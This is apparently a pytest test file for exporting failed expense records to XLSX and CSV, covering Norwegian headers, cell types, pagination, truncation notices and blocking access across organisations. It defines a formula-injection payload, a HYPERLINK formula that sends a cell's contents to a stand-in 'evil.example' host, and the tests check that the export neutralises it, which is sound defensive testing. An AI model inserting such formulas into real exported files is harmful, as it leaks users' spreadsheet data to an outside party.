"""The failed records as a file: every one of them, in the person's language, and nothing of another organisation."""

from __future__ import annotations

import csv
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from typing import cast

import openpyxl
import pytest

from core.errors import NotAllowed, StoreUnavailable
from core.i18n import Words
from core.model import Principal
from core.permissions import Role
from dashboard.page_context import PageContext
from dashboard.views.integration import exporting
from data.queries import exports_of_failures
from data.queries.exports_of_failures import export_failures
from data.queries.failures import every_open_failure
from flows.cli import show
from flows.cli.export import _how_many
from tests.fakes import PRINCIPAL, Office, record, refused

ID = "acme-expenses"
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"press")'


def office(count: int) -> Office:
    opened = Office(records=[record(f"UT-{n:04d}", "-1234.50") for n in range(count)], page_size=1_000)
    opened.target.rules.append(lambda out: refused(out, message=EVIL))
    opened.sync()
    return opened


def test_an_export_has_typed_cells_localised_titles_and_a_dated_name() -> None:
    opened = office(2)
    made = export_failures(PRINCIPAL, opened.store, ID, kind="xlsx", words=Words("nb"), now=opened.clock.now())
    opened.store.close()

    assert (made.file_name, made.records) == ("acme-expenses-2026-11-23.xlsx", 2)
    page = openpyxl.load_workbook(BytesIO(made.content)).active
    assert page is not None
    titles = [cell.value for cell in page[1]]
    assert titles[:4] == ["Bilag", "Årsak", "Hva du gjør", "Systemets melding"]
    row = dict(zip(titles, page[2], strict=True))
    assert row["Bilag"].value == "UT-0000"
    assert (row["Systemets melding"].value, row["Systemets melding"].data_type) == (EVIL, "s")
    assert (row["Beløp"].value, row["Beløp"].data_type) == (-1234.5, "n")
    assert str(row["Ikke bokført siden (Europe/Oslo)"].value) == "2026-11-23 10:00:00"
    assert {cell.data_type for line in page.iter_rows() for cell in line} <= {"s", "n", "d"}


def test_a_csv_is_what_the_language_reads() -> None:
    opened = office(1)
    made = export_failures(PRINCIPAL, opened.store, ID, kind="csv", words=Words("nb"), now=opened.clock.now())
    opened.store.close()

    titles, row = csv.reader(StringIO(made.content.decode("utf-8-sig"), newline=""), delimiter=";")
    cells = dict(zip(titles, row, strict=True))
    assert cells["Beløp"] == "-1234,50"
    assert cells["Systemets melding"] == f"'{EVIL}"


def test_more_records_than_one_page_are_all_there() -> None:
    opened = office(4_001)
    found = every_open_failure(PRINCIPAL, opened.store, ID)
    capped = every_open_failure(PRINCIPAL, opened.store, ID, most=2_500)
    opened.store.close()

    assert [one.record_key for one in found] == [f"UT-{n:04d}" for n in range(4_001)]
    assert len(capped) == 2_500
    assert {one.money.amount for one in found if one.money} == {Decimal("-1234.50")}


def test_an_export_that_takes_only_the_first_records_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    opened = office(3)
    monkeypatch.setattr(
        exports_of_failures,
        "every_open_failure",
        lambda person, store, name: every_open_failure(person, store, name, most=2),
    )
    made = export_failures(PRINCIPAL, opened.store, ID, kind="csv", words=Words("en"), now=opened.clock.now())
    opened.store.close()

    assert (made.records, made.open_records, made.is_cut) == (2, 3, True)
    assert _how_many(made, Path("a.csv"), Words("en")) == "The first 2 of 3 records are in a.csv."


def test_failures_that_are_cut_say_so_beside_the_list(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    opened = office(3)
    found = {ID: every_open_failure(PRINCIPAL, opened.store, ID, most=2)}
    opened.store.close()
    monkeypatch.setattr(show, "MOST_EXPORTED", 2)

    show._say_what_is_cut(Words("en"), {ID: ID}, found, {ID: 3})

    said = capsys.readouterr()
    assert (said.out, said.err) == ("", f"{ID}: the first 2 of 3 records.\n")


def test_a_failed_export_from_the_page_leaves_our_sentence_for_the_next_redraw(monkeypatch: pytest.MonkeyPatch) -> None:
    def away(*_: object) -> bytes:
        raise StoreUnavailable("The store does not answer.")

    monkeypatch.setattr(exporting, "_file", away)
    said: list[str] = []

    with pytest.raises(StoreUnavailable):
        exporting._made(cast("PageContext", None), Words("nb"), ID, "csv", said)()

    assert said == ["Filen kunne ikke lages. Ingenting ble utlevert; prøv igjen om litt."]


def test_nobody_takes_out_another_organisations_records() -> None:
    opened = office(1)
    stranger = Principal("eve", {"other": Role.ADMIN})

    with pytest.raises(NotAllowed):
        export_failures(stranger, opened.store, ID, kind="csv", words=Words("en"), now=opened.clock.now())
    opened.store.close()
